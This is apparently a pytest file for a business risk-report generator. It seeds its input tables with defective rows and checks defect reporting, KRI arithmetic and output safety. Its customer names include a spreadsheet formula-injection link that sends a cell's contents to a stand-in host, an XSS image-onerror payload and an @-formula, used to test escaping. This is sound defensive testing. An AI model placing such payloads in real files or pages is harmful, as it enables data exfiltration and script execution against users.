"""A company whose every table carries defects builds its whole pack; each report lists the defects
that touch it, and the KRIs equal a hand calculation that leaves out the defective rows as the
README documents (section "What the KRIs leave out")."""

from __future__ import annotations

from pathlib import Path

import pytest

from riskbook import cli
from riskbook.settings.register_import import code_of
from tests.conftest import TINY, read_results, write_tables

pytestmark = pytest.mark.slow

# Customer names that would be live in a careless report: a formula, markup, a leading @
HOSTILE = ('"=HYPERLINK(""http://x/?""&A1,""open"")"', "<img src=x onerror=alert(1)>", "@SUM(1+1)")
SHOWN = ('=HYPERLINK("http://x/?"&A1,"open")', "<img src=x onerror=alert(1)>", "@SUM(1+1)")

# The tiny company (unit u, hand-computed in test_kris.py) plus a defect in every table, and a unit v
# whose only orders are in 2026Q2: it has no data in 2026Q3.
DIRTY = {
    "orders": TINY["orders"]
    + "O6,2026-08-10,C,u,100,r2,p2,10,10,10,completed,false\n"  # row 11: exact duplicate of O6
    + "O10,2026-08-12,Z,u,50,r2,p1,,,,completed,\n"  # row 12: unknown customer Z (a real sale)
    + "O11,2026-09-01,A,u,-40,r1,p1,,,,completed,\n"  # row 13: negative on a completed line
    + "O12,2027-03-01,A,u,75,r1,p1,,,,completed,\n"  # row 14: future-dated
    + "O13,2026-08-20,C,u,1e15,r2,p1,2,50,50,completed,\n"  # row 15: 1e15 where 2 × 50 = 100
    + "O3,2026-05-10,B,u,500,r4,p1,,,,completed,\n"  # row 16: duplicate of O3, in 2026Q2
    + "O15,,A,u,30,r1,p1,,,,completed,\n"  # row 17: no order date
    + "O16,2026-08-01,A,,70,r1,p1,,,,completed,\n"  # row 18: no unit
    + "V1,2026-05-03,E,v,400,r2,p1,,,,completed,\n"  # unit v: orders in 2026Q2 only
    + "V2,2026-06-03,E,v,300,r2,p1,,,,completed,\n",
    "customers": TINY["customers"]
    .replace("Alpha Ltd", HOSTILE[0])
    .replace("Gamma Inc", HOSTILE[1])
    .replace("Delta LLC", HOSTILE[2])
    + "E,,v,\n",  # row 6: no customer name
    "reps": TINY["reps"] + "r6,Rep Six,u,2026-08-01,2026-07-15,100\n",  # row 6: left before being hired
    "invoices": TINY["invoices"]
    + "i6,C,u,2026-09-05,,400,false\n"  # row 7: no due date
    + "i2,C,u,2026-08-01,2026-08-31,500,false\n",  # row 8: exact duplicate of i2
    "payments": TINY["payments"] + "i404,2026-09-10,300\n",  # row 5: no such invoice
    "opportunities": TINY["opportunities"] + "o7,u,,open,5000,,\n",  # row 8: a prospect without created date
    "inventory": TINY["inventory"] + "2026-09-30,p1,0,u,5\n",  # row 10: exact duplicate
    "incidents": TINY["incidents"] + "n5,u,2026-09-09,other,7\n",  # row 6: severity 7 on a 1-5 scale
}


@pytest.fixture(scope="module")
def pack(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("dirty")
    data = write_tables(tmp / "data", DIRTY)
    out = tmp / "outputs"
    assert cli.main(["run", "--data", str(data), "--out", str(out), "--period", "2026Q3"]) == 0
    return out / "2026Q3"


def issue(doc: dict, check: str, table: str, column: str | None = None) -> dict:
    found = [
        i for i in doc["data_quality"]["issues"] if (i["check"], i["table"], i["column"]) == (check, table, column)
    ]
    assert len(found) == 1, (
        check,
        table,
        column,
        [(i["check"], i["table"], i["column"]) for i in doc["data_quality"]["issues"]],
    )
    return found[0]


def test_every_unit_and_the_group_are_built(pack: Path) -> None:
    for unit in ("u", "v"):
        assert (pack / unit / f"{unit}_2026Q3_risk_report.pdf").stat().st_size > 0
        assert (pack / unit / f"{unit}_2026Q3_risk_register.xlsx").stat().st_size > 0
    assert (pack / "group" / "group_2026Q3_risk_report.pdf").exists()


def test_each_report_lists_the_defects_that_touch_it(pack: Path) -> None:
    doc = read_results(pack / "u" / "results.json")
    assert issue(doc, "duplicate_row", "orders")["rows"] == [11, 16]  # this period's first, then 2026Q2's
    assert issue(doc, "duplicate_row", "orders")["periods"] == ["2026Q2", "2026Q3"]
    assert issue(doc, "unknown_id", "orders", "customer_id")["rows"] == [12]
    assert issue(doc, "negative_amount", "orders", "amount")["value"] == "-40"
    assert issue(doc, "future_date", "orders", "order_date")["rows"] == [14]
    mismatch = issue(doc, "amount_mismatch", "orders", "amount")
    assert (mismatch["rows"], mismatch["value"], mismatch["excluded"]) == ([15], "1e+15", "value")
    assert issue(doc, "missing_value", "orders", "order_date")["rows"] == [17]
    no_unit = issue(doc, "missing_value", "orders", "unit")
    assert no_unit["rows"] == [18] and no_unit["no_unit"] == 1 and no_unit["excluded"] == "row"
    assert issue(doc, "date_order", "reps", "exit_date")["rows"] == [6]
    assert issue(doc, "missing_value", "invoices", "due_date")["keys"] == ["i6"]
    assert issue(doc, "duplicate_row", "invoices")["rows"] == [8]
    orphan = issue(doc, "unknown_id", "payments", "invoice_id")
    assert orphan["rows"] == [5] and orphan["value"] == "i404" and "overdue_ratio" in orphan["kris"]
    assert issue(doc, "missing_value", "opportunities", "created_date")["rows"] == [8]
    assert issue(doc, "duplicate_row", "inventory")["rows"] == [10]
    assert issue(doc, "invalid_value", "incidents", "severity")["value"] == "7"
    assert all(i["check"] != "missing_value" or i["column"] != "customer_name" for i in doc["data_quality"]["issues"])
    v = read_results(pack / "v" / "results.json")
    assert issue(v, "missing_value", "customers", "customer_name")["rows"] == [6]  # customer E is v's
    assert issue(v, "missing_value", "orders", "unit")["rows"] == [18]  # a row of no unit touches every unit


def test_kris_equal_a_hand_calculation_without_the_defective_rows(pack: Path) -> None:
    kri = {k["id"]: k for k in read_results(pack / "u" / "results.json")["kris"]}
    # revenue: 2026Q3 completed lines O5 1200 + O6 100 + O7 200 + O8 100 + O10 50 (the duplicate of O6, the
    # negative O11, the 1e15 O13, the undated O15 and the unit-less O16 left out) = 1650;
    # 2026Q2: O2 1000 + O3 500 + O4 300 (the duplicate of O3 left out) = 1800
    assert kri["revenue_growth"]["value"] == pytest.approx((1650 / 1800 - 1) * 100)
    # receivables at 2026-09-30: i1 600, i2 500 (its duplicate left out), i3 200, i5 100, i6 400 (no due date:
    # it is owed, so it counts in DSO, but it cannot be aged); the payment for i404 settles nothing
    assert kri["dso"]["value"] == pytest.approx(1800 / (500 + 200 + 300 + 100 + 400) * 92)
    assert kri["overdue_ratio"]["value"] == pytest.approx((600 + 500) / (600 + 500 + 200 + 100) * 100)
    # reps: r6 left before being hired and is left out; over the 12 months to date r4 and r1 left, against a
    # headcount of 3 (r1, r2, r4) then 2 (r2, r3)
    assert kri["rep_attrition_rate"]["value"] == pytest.approx(2 / 2.5 * 100)
    # the prospect without a created date is not pipeline: o1 1000 + o3 300 over the quota of r2 and r3 (500)
    assert kri["pipeline_coverage"]["value"] == pytest.approx(1300 / 500)
    # severity 7 is left out: n1 3 + n2 2 + n3 4
    assert kri["incident_count"]["value"] == pytest.approx(9)
    # the snapshot's duplicate row is left out: p1 and p2 short of 4 products
    assert kri["stockout_rate"]["value"] == pytest.approx(50)


def test_data_quality_kris_agree_with_the_reports_line(pack: Path) -> None:
    doc = read_results(pack / "u" / "results.json")
    kri = {k["id"]: k for k in doc["kris"]}
    dq = doc["data_quality"]
    # u's records dated in 2026Q3, defective ones included, plus the future-dated O12: orders O5-O9, O6's copy,
    # O10, O11, O13 and O12 (10); invoices i2-i6 and i2's copy (6); the payment of i4 (1); opportunities o3, o6
    # created in the quarter (2); inventory snapshots of 31 Aug and 30 Sep and the copy (9); incidents (4)
    assert dq["rows_checked"] == 10 + 6 + 1 + 2 + 9 + 4
    # errors: O8 no customer, O10 unknown customer, O11 negative, O13 1e15, O12 future; i6 no due date;
    # n5 severity 7 — and three copies: O6's, i2's and the snapshot row's
    assert (dq["rows_failing"], dq["duplicates"]) == (7, 3)
    assert kri["data_quality_error_rate"]["value"] == pytest.approx(7 / 32 * 100)
    assert kri["duplicate_record_rate"]["value"] == pytest.approx(3 / 32 * 100)


def test_a_unit_without_orders_in_the_period_is_no_data(pack: Path) -> None:
    doc = read_results(pack / "v" / "results.json")
    assert doc["status"] == "no data"
    assert (
        doc["note"] == "No data for 2026Q3: the unit has no order lines in the period (its last order line "
        "is dated 2026-06-03). No KRI is computed."
    )
    assert all(k["status"] == "n/a" and k["value"] is None for k in doc["kris"])
    assert not [r for r in doc["risks"] if r["movement"] != "closed" and r.get("source") != "analyst"]
    index = (pack / "index.html").read_text(encoding="utf-8")
    assert "no data" in index


def test_text_from_data_is_inert_in_every_output(pack: Path) -> None:
    import subprocess
    import zipfile

    from openpyxl import load_workbook

    book = pack / "u" / "u_2026Q3_risk_register.xlsx"
    with zipfile.ZipFile(book) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in x or b"<f " in x for x in sheets), "no cell is a formula"
    wb = load_workbook(book)
    texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + SHOWN[0] in texts and "'" + SHOWN[2] in texts  # prefixed, shown as text by every spreadsheet
    assert not [t for t in texts if t.startswith(("=", "+", "@", "\t", "\r")) or (t.startswith("-") and t != "-")]
    page = (pack / "u" / "01_identification.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in page and "<img src=x onerror" not in page
    pdf = subprocess.run(
        ["pdftotext", str(pack / "u" / "u_2026Q3_risk_report.pdf"), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert SHOWN[1] in pdf  # printed as the text it is


def test_the_group_report_names_the_unit_without_data(pack: Path) -> None:
    import subprocess

    pdf = subprocess.run(
        ["pdftotext", str(pack / "group" / "group_2026Q3_risk_report.pdf"), "-"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert "No data for 2026Q3 (no order lines in the period, no KRI computed): v" in " ".join(pdf.split())
    summary = subprocess.run(
        ["pdftotext", str(pack / "v" / "v_2026Q3_risk_report.pdf"), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "No data for 2026Q3: the unit has no order lines in the period" in " ".join(summary.split())


def test_the_workbook_lists_the_findings_one_per_row(pack: Path) -> None:
    from openpyxl import load_workbook

    ws = load_workbook(pack / "u" / "u_2026Q3_risk_register.xlsx")["Data quality"]
    rows = list(ws.iter_rows(values_only=True))
    head = [code_of(h) for h in rows[0]]
    got = [dict(zip(head, r)) for r in rows[1:]]
    assert head[:9] == ["when", "period", "severity", "check", "table", "file", "row", "key", "column"]
    assert got[0]["when"] == "period" and got[0]["severity"] == "error"  # this period's errors first
    neg = [r for r in got if r["check"] == "negative_amount"]
    assert [(r["table"], r["row"], r["key"], r["value"], r["excluded"]) for r in neg] == [
        ("orders", 13, "O11 / p1", "'-40", "value")
    ]  # a leading minus is shown as text, not a formula
    assert {r["check"] for r in got} >= {
        "duplicate_row",
        "unknown_id",
        "future_date",
        "amount_mismatch",
        "missing_value",
        "date_order",
        "invalid_value",
    }
